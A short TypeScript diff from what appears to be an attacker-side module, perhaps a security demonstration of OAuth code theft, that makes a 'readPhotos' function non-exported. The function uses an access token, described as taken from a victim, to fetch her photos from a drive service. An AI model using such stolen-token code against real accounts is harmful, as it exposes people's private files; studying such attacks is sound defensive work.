@@ -55,7 +55,7 @@ export async function redeemStolenCode(config: AttackerConfig, code: string, ext
 }
 
 /** With a token in hand: whose photos does Drive show her? */
-export async function readPhotos(config: AttackerConfig, accessToken: string, what: string): Promise<Redemption> {
+async function readPhotos(config: AttackerConfig, accessToken: string, what: string): Promise<Redemption> {
   const response = await fetch(`${config.drive.internalUrl}/api/photos`, {
     headers: { authorization: `Bearer ${accessToken}` },
     signal: AbortSignal.timeout(config.httpTimeoutMs),
